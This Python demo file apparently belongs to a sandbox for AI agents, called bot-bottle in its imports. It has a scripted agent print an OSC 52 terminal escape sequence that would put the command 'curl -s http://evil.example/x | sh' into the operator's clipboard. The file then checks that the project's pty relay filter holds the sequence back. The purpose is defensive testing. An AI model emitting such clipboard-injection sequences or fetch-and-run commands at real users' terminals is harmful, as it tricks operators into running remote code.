"""The demo's terminal row: the agent prints a clipboard write; the operator's terminal never gets it.

The scripted agent prints, on a terminal, a line of text with an OSC 52 sequence in the middle
that would put a command into the operator's clipboard. The demo holds a pseudo-terminal as the
operator's terminal and relays the agent's exec client to it exactly as ``bot-bottle start`` does
(``pty_relay`` with its filter); what reached that terminal is then read back.
"""

from __future__ import annotations

import base64
import contextlib
import os
import select
import threading
from dataclasses import dataclass, field
from typing import Any

from bot_bottle import pty_relay
from bot_bottle.demo.outcome import Outcome

BEFORE, AFTER = "demo-text-before", "demo-text-after"
# What the sequence would put in the clipboard, for the operator to paste into a shell later.
PASTED = "curl -s http://evil.example/x | sh"
PAYLOAD = base64.b64encode(PASTED.encode()).decode()


@dataclass
class TerminalSeen:
    shown: bytes = b""  # what reached the operator's terminal
    held: dict[str, int] = field(default_factory=dict)
    exit_code: int | None = None
    error: str = ""


def print_on_a_terminal(bottle: Any) -> TerminalSeen:
    """Run the hostile print in ``bottle`` with a terminal, relayed to one the demo reads."""
    seen = TerminalSeen()
    operator, operator_side = os.openpty()  # the demo reads ``operator``; the relay writes the other
    reader = threading.Thread(target=_read_all, args=(operator, seen), daemon=True)
    reader.start()
    argv = bottle.run_argv(["printf", f"{BEFORE}\\033]52;c;{PAYLOAD}\\007{AFTER}\\n"], tty=True)
    relay = pty_relay.Relay(argv, stdin_fd=operator_side, stdout_fd=operator_side, report=lambda _summary: None)
    try:
        seen.exit_code = relay.start().wait(timeout=120)
    except Exception as exc:  # noqa: BLE001 - the row shows what went wrong, the demo goes on
        seen.error = str(exc) or type(exc).__name__
        if relay.proc is not None and relay.proc.poll() is None:
            relay.proc.kill()
            relay.proc.wait()
    finally:
        relay.close()
        os.close(operator_side)  # the reader sees the end of what was shown
        reader.join(5)
        with contextlib.suppress(OSError):
            os.close(operator)
    seen.held = dict(relay.screen.held)
    return seen


def _read_all(fd: int, seen: TerminalSeen) -> None:
    while True:
        try:
            ready, _, _ = select.select([fd], [], [], 0.5)
            if not ready:
                continue
            data = os.read(fd, 65536)
        except (OSError, ValueError):
            return
        if not data:
            return
        seen.shown += data


def evaluate(seen: TerminalSeen) -> Outcome:
    attempt = "print an escape sequence that puts a command into your clipboard (OSC 52)"
    expected = "held back: your terminal shows the text around it, not the sequence"
    if seen.error or seen.exit_code != 0:
        return Outcome(attempt, expected, f"could not run it ({seen.error or f'exit {seen.exit_code}'})", False)
    reached = b"]52;" in seen.shown or PAYLOAD.encode() in seen.shown
    text = BEFORE.encode() in seen.shown and AFTER.encode() in seen.shown
    if reached:
        return Outcome(attempt, expected, "the sequence reached the terminal", False)
    if not text:
        return Outcome(attempt, expected, "the text around it did not reach the terminal either", False)
    kinds = ", ".join(f"{kind} x{count}" for kind, count in seen.held.items()) or "nothing counted"
    return Outcome(attempt, expected, f"held back ({kinds}); the text around it shown", True)


__all__ = ["TerminalSeen", "evaluate", "print_on_a_terminal"]
